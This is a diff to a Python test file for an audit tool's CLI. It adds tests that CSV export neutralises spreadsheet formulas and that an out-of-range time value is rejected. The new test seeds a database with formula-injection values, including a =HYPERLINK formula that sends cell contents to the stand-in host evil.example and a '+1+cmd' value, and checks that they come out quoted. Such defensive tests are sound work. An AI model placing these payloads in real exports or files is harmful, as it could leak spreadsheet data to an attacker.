@@ -237,3 +237,33 @@ def test_names_from_the_wire_are_shown_as_text(tmp_path, capsys):
         assert "[/x]" in out and "[link=https://evil.example]get_weather[/link]" in out
         assert "[bold]eve" in out
         assert "\x1b" not in out and "\x07" not in out and "\\x1b]0;pwned" in out
+
+
+def test_export_csv_neutralizes_formulas(audit_db, capsys):
+    """Tool names, ids and methods are chosen by clients: a cell a spreadsheet would run
+    as a formula gets a leading quote (numbers stay as they are)."""
+    import sqlite3
+
+    c = sqlite3.connect(audit_db["path"])
+    c.execute(
+        "UPDATE messages SET name=?, rpc_id=? WHERE seq=(SELECT min(seq) FROM messages)",
+        ('=HYPERLINK("https://evil.example/?"&B2,"x")', "-5"),
+    )
+    c.execute(
+        "UPDATE messages SET name='@SUM(1+1)', rpc_id='+1+cmd' "
+        "WHERE seq=(SELECT max(seq) FROM messages)"
+    )
+    c.commit()
+    c.close()
+    assert main(["audit", "export", "--db", audit_db["path"], "--format", "csv"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows[0]["name"] == '\'=HYPERLINK("https://evil.example/?"&B2,"x")'
+    assert rows[0]["rpc_id"] == "-5"
+    assert (rows[-1]["name"], rows[-1]["rpc_id"]) == ("'@SUM(1+1)", "'+1+cmd")
+    for r in rows:
+        assert not any(str(v).startswith(("=", "@")) for v in r.values())
+
+
+def test_usage_time_out_of_range_is_a_usage_error(audit_db, capsys):
+    assert main(["usage", "--db", audit_db["path"], "--since", "1e20"]) == EXIT_ERROR
+    assert "out of range" in capsys.readouterr().err
